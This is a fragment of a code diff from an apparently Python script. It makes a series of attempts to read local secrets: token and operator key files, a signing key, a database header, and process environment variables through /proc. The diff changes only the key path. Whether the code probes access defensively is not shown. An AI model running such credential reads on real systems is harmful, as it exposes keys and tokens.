@@ -213,7 +213,7 @@ def ask_s3(key, secret):
 mine = {"Authorization": "Token " + token}
 attempt("token file", lambda: open(home + "/.limn/local.json").read())
 attempt("operator key", lambda: open(home + "/.limn/operator.key").read())
-attempt("s3 key", lambda: open(home + "/.limn/data/s3.key").read())
+attempt("s3 key", lambda: open(home + "/.limn/data/signing-key").read())
 attempt("rows", lambda: open(home + "/.limn/data/limn.sqlite", "rb").read(16))
 attempt("environments", lambda: [open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/environ")][0])
 attempt("parent", lambda: open("/proc/%d/environ" % os.getppid(), "rb").read())
